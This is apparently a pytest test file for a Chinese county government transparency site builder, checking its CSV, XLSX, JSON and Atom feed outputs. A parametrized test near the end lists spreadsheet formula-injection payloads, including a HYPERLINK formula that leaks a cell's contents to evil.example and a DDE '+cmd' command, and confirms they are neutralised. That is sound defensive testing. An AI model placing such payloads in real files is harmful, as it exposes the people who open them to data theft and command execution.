"""Downloadable and machine-readable files: catalogues, normative-document lists, open data, Atom feeds."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest

from gongkai.link import link
from gongkai.load import load_county
from gongkai.model import County
from gongkai.render.data import data_files, made
from gongkai.render.data.feeds import excerpt

from kit import CATALOG_YML, DOMAINS_YML, document, write_county

TODAY = dt.date(2026, 11, 26)
ATOM = "{http://www.w3.org/2005/Atom}"
POLICY = "测试县2026年耕地地力保护补贴实施方案"
REPEALED = "测试县农机购置补贴管理办法"
EXPIRED = "测试县冬春救助暂行办法"
SCRIPT = "关于<script>&的通知"
CHECKLIST = (
    "■政府网站 □政府公报 □两微一端 □发布会/听证会 □广播电视 □纸质媒体 □公开查阅点 □政务服务中心 "
    "□便民服务站 □入户/现场 ■社区/企事业单位/村公示栏（电子屏） □精准推送 □12345政务服务热线 □其他"
)
CATALOG_HEADERS = [
    [
        "序号",
        "公开事项",
        "",
        "公开内容（要素）",
        "公开依据",
        "公开时限",
        "公开主体",
        "公开渠道和载体",
        "公开对象",
        "",
        "公开方式",
        "",
        "公开层级",
        "",
        "",
        "备注",
    ],
    [
        "",
        "一级事项",
        "二级事项",
        "",
        "",
        "",
        "",
        "",
        "全社会",
        "特定群体",
        "主动",
        "依申请",
        "县级",
        "乡级",
        "村级",
        "",
    ],
]
NORMATIVE_HEADER = [
    "序号",
    "文件名称",
    "文号",
    "统一登记号",
    "制定机关",
    "成文日期",
    "施行日期",
    "有效期至",
    "状态",
    "解读",
]
DOCUMENT_KEYS = [
    "索引号",
    "标题",
    "文号",
    "发布机构",
    "成文日期",
    "发布日期",
    "领域",
    "主题分类",
    "组配分类",
    "关键词",
    "内容概述",
    "有效性",
    "解读对象",
    "目录事项",
    "网址",
]
BODY = "## 第一章　总则\n\n**第一条**　为了[规范](https://example.cn/)补贴发放工作，" + "根据有关规定制定本办法。" * 12


def _sources() -> dict[str, str | bytes | None]:
    """The kit's county: its policy made normative, plus a repealed, an expired and a script-titled document,
    and a domain with neither catalogue nor documents."""
    no_summary = document(SCRIPT, "11341700MB1714830K/202604-00001", "2026-04-01", body=BODY)
    return {
        "catalog/domains.yml": DOMAINS_YML + "  - 代码: jycy\n    名称: 就业创业\n",
        "catalog/snbt.yml": CATALOG_YML + '    备注: "=SUM(A1)"\n',
        "content/documents/2026/gdlb.md": document(
            POLICY,
            "11341700MB1714830K/202603-00001",
            kind="行政规范性文件",
            extra="统一登记号: CSDR-2026-0010001\n目录事项: 耕地地力保护\n",
        ),
        "content/documents/2026/njbt.md": document(
            REPEALED, "11341700MB1714830K/202602-00001", "2026-02-01", kind="行政规范性文件", extra="有效性: 废止\n"
        ),
        "content/documents/2020/dcjz.md": document(
            EXPIRED, "11341700MB1714830K/202001-00001", "2020-01-10", kind="行政规范性文件"
        ),
        "content/documents/2026/script.md": no_summary.replace("内容概述: 明确补贴对象、标准和程序。\n", ""),
    }


def _files(root: Path) -> dict[str, bytes]:
    county = load_county(root)
    return made(data_files(county, link(county, TODAY), TODAY))


@pytest.fixture(scope="module")
def county(tmp_path_factory: pytest.TempPathFactory) -> County:
    return load_county(write_county(tmp_path_factory.mktemp("county"), _sources()))


@pytest.fixture(scope="module")
def files(county: County) -> dict[str, bytes]:
    return made(data_files(county, link(county, TODAY), TODAY))


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline="")))


def _xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_every_file_has_its_site_path(files):
    assert sorted(files) == [
        "data/catalog.csv",
        "data/catalog.json",
        "data/documents.csv",
        "data/documents.json",
        "feed.xml",
        "jcgk/jycy/catalog.csv",
        "jcgk/jycy/catalog.xlsx",
        "jcgk/jycy/feed.xml",
        "jcgk/shjz/catalog.csv",
        "jcgk/shjz/catalog.xlsx",
        "jcgk/shjz/feed.xml",
        "jcgk/snbt/catalog.csv",
        "jcgk/snbt/catalog.xlsx",
        "jcgk/snbt/feed.xml",
        "xxgk/gfxwj/list.csv",
        "xxgk/gfxwj/list.xlsx",
    ]


# Standard catalogue


def test_catalog_csv_has_the_two_header_rows_and_the_channel_checklist(files):
    rows = _csv(files["jcgk/snbt/catalog.csv"])
    assert rows[:2] == CATALOG_HEADERS
    assert rows[2:] == [
        [
            "1",
            "农业生产发展资金",
            "耕地地力保护",
            "政策依据、申请指南、补贴结果、监督渠道",
            "《中华人民共和国政府信息公开条例》",
            "信息形成或者变更之日起20个工作日内",
            "县农业农村局",
            CHECKLIST,
            "√",
            "",
            "√",
            "",
            "√",
            "√",
            "",
            "'=SUM(A1)",  # an apostrophe first: never run as a formula
        ]
    ]


def test_domain_without_catalogue_gets_the_headers_alone(files):
    assert _csv(files["jcgk/jycy/catalog.csv"]) == CATALOG_HEADERS
    sheet = _xlsx(files["jcgk/jycy/catalog.xlsx"]).active
    assert sheet["A1"].value == "就业创业领域基层政务公开标准目录"
    assert sheet.max_row == 3


def test_catalog_xlsx_has_title_merged_bold_headers_and_frozen_panes(files):
    book = _xlsx(files["jcgk/snbt/catalog.xlsx"])
    assert book.sheetnames == ["标准目录"]
    sheet = book.active
    assert sheet["A1"].value == "涉农补贴领域基层政务公开标准目录"
    assert {str(r) for r in sheet.merged_cells.ranges} == {
        "A1:P1",
        "A2:A3",
        "B2:C2",
        "D2:D3",
        "E2:E3",
        "F2:F3",
        "G2:G3",
        "H2:H3",
        "I2:J2",
        "K2:L2",
        "M2:O2",
        "P2:P3",
    }
    headers = [[cell.value or "" for cell in row] for row in sheet.iter_rows(min_row=2, max_row=3)]
    assert headers == CATALOG_HEADERS
    assert sheet["B2"].font.b and sheet["I3"].font.b and not sheet["B4"].font.b
    assert sheet.freeze_panes == "A4"
    assert sheet.column_dimensions["H"].width > sheet.column_dimensions["A"].width
    assert [cell.value for cell in sheet[4]][6:13] == ["县农业农村局", CHECKLIST, "√", None, "√", None, "√"]


def test_xlsx_keeps_text_that_looks_like_a_formula_as_text(files):
    cell = _xlsx(files["jcgk/snbt/catalog.xlsx"]).active["P4"]
    assert (cell.value, cell.data_type) == ("=SUM(A1)", "s")


# 现行有效行政规范性文件目录


def test_normative_lists_sort_documents_by_status(files):
    book = _xlsx(files["xxgk/gfxwj/list.xlsx"])
    assert book.sheetnames == ["现行有效", "已废止", "已失效"]
    titles = {name: book[name]["A1"].value for name in book.sheetnames}
    assert titles == {
        "现行有效": "测试县现行有效行政规范性文件目录（截至2026年11月26日）",
        "已废止": "测试县已废止行政规范性文件目录（截至2026年11月26日）",
        "已失效": "测试县已失效行政规范性文件目录（截至2026年11月26日）",
    }
    rows = {name: [[cell.value for cell in row] for row in book[name].iter_rows(min_row=2)] for name in book.sheetnames}
    assert {name: rows[name][0] for name in rows} == dict.fromkeys(book.sheetnames, NORMATIVE_HEADER)
    assert rows["现行有效"][1:] == [
        [
            1,
            POLICY,
            "测政办〔2026〕12号",
            "CSDR-2026-0010001",
            "测试县人民政府办公室",
            dt.datetime(2026, 3, 1),
            dt.datetime(2026, 3, 5),
            dt.datetime(2031, 3, 4),
            "有效",
            f"《{POLICY}》政策解读",
        ]
    ]
    assert [row[1] for row in rows["已废止"][1:]] == [REPEALED]
    assert [(row[1], row[7], row[8]) for row in rows["已失效"][1:]] == [(EXPIRED, dt.datetime(2022, 1, 9), "失效")]
    assert book["现行有效"].freeze_panes == "A3"


def test_normative_csv_lists_the_documents_in_force(files):
    assert _csv(files["xxgk/gfxwj/list.csv"]) == [
        NORMATIVE_HEADER,
        [
            "1",
            POLICY,
            "测政办〔2026〕12号",
            "CSDR-2026-0010001",
            "测试县人民政府办公室",
            "2026-03-01",
            "2026-03-05",
            "2031-03-04",
            "有效",
            f"《{POLICY}》政策解读",
        ],
    ]


# Open data


def test_documents_json_holds_every_document_newest_first(files, county):
    data = json.loads(files["data/documents.json"])
    assert list(data) == ["生成日期", "记录数", "记录"]
    assert data["生成日期"] == "2026-11-26"
    assert data["记录数"] == len(data["记录"]) == len(county.documents)
    assert [list(record) for record in data["记录"]] == [DOCUMENT_KEYS] * len(county.documents)
    assert [record["发布日期"] for record in data["记录"]] == sorted(
        (r["发布日期"] for r in data["记录"]), reverse=True
    )
    policy = next(record for record in data["记录"] if record["标题"] == POLICY)
    assert policy == {
        "索引号": "11341700MB1714830K/202603-00001",
        "标题": POLICY,
        "文号": "测政办〔2026〕12号",
        "发布机构": "测试县人民政府办公室",
        "成文日期": "2026-03-01",
        "发布日期": "2026-03-05",
        "领域": "涉农补贴",
        "主题分类": "农业、林业、水利",
        "组配分类": "行政规范性文件",
        "关键词": ["耕地地力保护", "补贴"],
        "内容概述": "明确补贴对象、标准和程序。",
        "有效性": "有效",
        "解读对象": None,
        "目录事项": "农业生产发展资金 / 耕地地力保护",
        "网址": "documents/2026/gdlb/",
    }
    expired = next(record for record in data["记录"] if record["标题"] == EXPIRED)
    assert expired["有效性"] == "失效"  # its term ran out before the build date


def test_documents_csv_matches_the_json(files):
    rows = _csv(files["data/documents.csv"])
    records = json.loads(files["data/documents.json"])["记录"]
    assert rows[0] == DOCUMENT_KEYS
    assert [row[1] for row in rows[1:]] == [record["标题"] for record in records]
    assert rows[1 + [r["标题"] for r in records].index(POLICY)][9] == "耕地地力保护；补贴"


def test_catalog_open_data_lists_every_row_with_its_domain(files, county):
    data = json.loads(files["data/catalog.json"])
    assert data["记录数"] == len(data["记录"]) == sum(len(catalog.rows) for catalog in county.catalogs)
    assert [record for record in data["记录"] if record["领域代码"] == "snbt"] == [
        {
            "领域代码": "snbt",
            "领域": "涉农补贴",
            "序号": "1",
            "一级事项": "农业生产发展资金",
            "二级事项": "耕地地力保护",
            "公开内容": "政策依据、申请指南、补贴结果、监督渠道",
            "公开依据": "《中华人民共和国政府信息公开条例》",
            "公开时限": "信息形成或者变更之日起20个工作日内",
            "公开主体": "县农业农村局",
            "公开渠道": ["政府网站", "社区/企事业单位/村公示栏（电子屏）"],
            "公开对象": "全社会",
            "公开方式": "主动",
            "公开层级": ["县级", "乡级"],
            "备注": "=SUM(A1)",
        }
    ]
    header, first = _csv(files["data/catalog.csv"])[:2]
    assert header == list(data["记录"][0])
    assert first[:3] == ["snbt", "涉农补贴", "1"]
    assert first[header.index("公开渠道")] == "政府网站；社区/企事业单位/村公示栏（电子屏）"


# Atom feeds


def _entries(data: bytes) -> tuple[ET.Element, list[ET.Element]]:
    root = ET.fromstring(data)
    assert root.tag == f"{ATOM}feed"
    return root, root.findall(f"{ATOM}entry")


def test_site_feed_lists_documents_newest_first_with_relative_links(files, county):
    root, entries = _entries(files["feed.xml"])
    assert root.findtext(f"{ATOM}title") == "测试县人民政府信息公开网"
    assert root.findtext(f"{ATOM}id") == "tag:3417000099,2026:feed.xml"
    assert root.findtext(f"{ATOM}updated") == "2026-04-01T00:00:00+08:00"
    assert len(entries) == len(county.documents)
    first = entries[0]
    assert first.find(f"{ATOM}link").get("href") == "documents/2026/script/"
    assert first.findtext(f"{ATOM}id") == "tag:3417000099,2026:documents/2026/script/"
    assert first.findtext(f"{ATOM}published") == "2026-04-01T00:00:00+08:00"
    assert first.findtext(f"{ATOM}author/{ATOM}name") == "测试县人民政府办公室"


def test_feed_escapes_titles(files):
    assert "<title>关于&lt;script&gt;&amp;的通知</title>".encode() in files["feed.xml"]
    assert b"<script>" not in files["feed.xml"]
    assert _entries(files["feed.xml"])[1][0].findtext(f"{ATOM}title") == SCRIPT


def test_feed_summary_falls_back_to_the_body_without_markdown(files):
    summary = _entries(files["feed.xml"])[1][0].findtext(f"{ATOM}summary")
    assert summary == excerpt(BODY)
    assert summary.startswith("第一章　总则 第一条　为了规范补贴发放工作，根据有关规定制定本办法。")
    assert len(summary) == 101 and summary.endswith("…")
    assert not {"#", "*", "[", "("} & set(summary)


def test_domain_feed_links_up_to_the_documents(files):
    root, entries = _entries(files["jcgk/snbt/feed.xml"])
    assert root.findtext(f"{ATOM}title") == "测试县人民政府信息公开网：涉农补贴"
    assert {link.get("rel"): link.get("href") for link in root.findall(f"{ATOM}link")} == {
        "self": "feed.xml",
        "alternate": "./",
    }
    assert [entry.find(f"{ATOM}link").get("href") for entry in entries][:2] == [
        "../../documents/2026/script/",
        "../../documents/2026/gdlb-jd/",
    ]
    assert "../../documents/2026/dbns/" not in {entry.find(f"{ATOM}link").get("href") for entry in entries}


def test_empty_domain_feed_is_dated_on_the_build_day(files):
    root, entries = _entries(files["jcgk/jycy/feed.xml"])
    assert entries == []
    assert root.findtext(f"{ATOM}updated") == "2026-11-26T00:00:00+08:00"


def test_feed_holds_the_latest_fifty(tmp_path):
    many = {
        f"content/documents/2025/d{i:02d}.md": document(
            f"第{i}号通知", f"11341700MB1714830K/202501-{i:05d}", f"2025-01-{1 + i % 28:02d}", kind="通知公告"
        )
        for i in range(1, 60)
    }
    county = load_county(write_county(tmp_path, many))
    files = made(data_files(county, link(county, TODAY), TODAY))
    assert len(county.documents) > 50
    assert len(_entries(files["feed.xml"])[1]) == 50
    assert json.loads(files["data/documents.json"])["记录数"] == len(county.documents)


# Determinism


def test_the_same_input_gives_the_same_bytes(tmp_path):
    root = write_county(tmp_path, _sources())
    first = _files(root)
    time.sleep(1.1)  # XLSX archives and core properties would otherwise carry the clock
    assert _files(root) == first


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example/?q="&A2,"点击查看原文")', "'=HYPERLINK"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("@SUM(1+1)", "'@SUM"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("＝１＋１", "'＝１＋１"),
        ("-3.50", "-3.50"),
        ("关于印发《办法》的通知", "关于印发"),
    ],
)
def test_csv_cells_never_run_as_formulas(cell, written):
    from gongkai.render.data.csvfile import inert

    assert inert(cell).startswith(written)
